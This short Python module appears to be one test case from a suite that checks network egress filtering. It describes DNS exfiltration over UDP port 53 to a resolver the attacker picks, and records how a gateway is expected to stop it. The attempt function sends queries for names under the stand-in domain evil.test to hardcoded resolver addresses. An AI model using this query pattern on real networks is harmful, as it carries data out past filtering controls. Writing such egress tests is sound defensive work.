"""A resolver of the attacker's choice, over UDP.

Port 53 is often open to any address, "since names have to work". The question then goes straight
to a server of the attacker, past the resolver that filters.

Not covered: other ports and protocols of resolvers, which are techniques of their own.
"""

ATTACK = {
    "title": "Question to another resolver over UDP",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-200", "ATT&CK T1048.003", "R046", "R085"],
    "arrives": [{"what": "udp", "port": 53}, {"what": "question", "name": "*.x.evil.test"}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "*.x.evil.test"}},
    ],
}


def attempt(kit):
    for server in ("93.184.216.66", "2606:2800:220:1::66"):
        kit.ask(f"{kit.word}.x.evil.test", server, patience=0.2)
